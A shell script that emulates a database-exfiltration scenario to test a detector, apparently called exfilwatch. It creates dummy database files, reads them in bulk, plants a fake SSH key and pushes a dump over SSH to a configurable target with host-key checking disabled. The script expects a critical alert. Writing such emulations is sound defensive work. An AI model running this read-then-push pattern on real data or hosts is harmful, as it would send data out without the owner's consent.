#!/bin/sh
# Emulates scenario git-push-ssh-db-dump (examples/scenarios/git-push-ssh-db-dump.yaml):
# Database files dumped and pushed over SSH with a planted key.
#
# Safe version: 150 MiB of random "database files", a fake planted key (the SSH client reads it), and an
# SSH push to EMU_GIT_SSH_URL, which fails after the connection attempt unless you run an SSH git server
# there. exfilwatch judges the push when ssh starts `git-receive-pack`.
#
# Image: alpine/git:2.47.2
# Expected alert: bulk-read-then-push, severity critical
set -eu
# shellcheck source=lib.sh
. "$(dirname "$0")/lib.sh"

emu_need git ssh head find
work="$EMU_WORKDIR/git-push-ssh-db-dump"
rm -rf "$work"
emu_dummy_files "$work/data/base/16384" 60 150
emu_read_all "$work/data/base/16384"
emu_git_init "$work/d"
emu_big_file "$work/d/orders.dump" 38
git -C "$work/d" add orders.dump
git -C "$work/d" commit -qm d
emu_fake_secrets "$work/d"
emu_check_target "$EMU_GIT_SSH_URL"
git -C "$work/d" -c core.sshCommand="ssh -i $work/d/.ssh/id_ed25519 -o BatchMode=yes -o StrictHostKeyChecking=no -o ConnectTimeout=10" \
  push "$EMU_GIT_SSH_URL" HEAD:refs/heads/main ||
  emu_log "push over SSH did not complete (expected without an SSH git server); the attempt is what exfilwatch judges"
rm -rf "$work"
emu_expect bulk-read-then-push critical
